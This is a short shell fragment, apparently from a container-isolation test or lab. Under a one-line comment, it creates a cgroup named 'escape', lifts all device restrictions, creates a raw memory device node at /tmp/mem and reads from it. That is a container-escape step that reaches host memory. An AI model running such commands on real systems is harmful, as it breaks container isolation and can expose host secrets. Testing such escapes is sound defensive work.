# The same, from a group of its own.
mkdir -p /sys/fs/cgroup/devices/escape && echo a >/sys/fs/cgroup/devices/escape/devices.allow && mknod /tmp/mem c 1 1 && head -c 1 /tmp/mem
